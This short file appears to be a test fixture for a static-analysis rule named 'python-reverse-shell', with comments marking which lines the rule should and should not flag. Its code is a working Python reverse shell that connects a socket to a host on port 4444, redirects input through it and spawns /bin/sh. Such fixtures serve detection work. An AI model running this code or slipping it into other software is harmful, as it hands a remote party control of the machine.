import os, pty, socket
s = socket.socket()
s.connect((host, 4444))
# ruleid: python-reverse-shell
os.dup2(s.fileno(), 0)
pty.spawn("/bin/sh")
# ok: python-reverse-shell
os.dup(1)
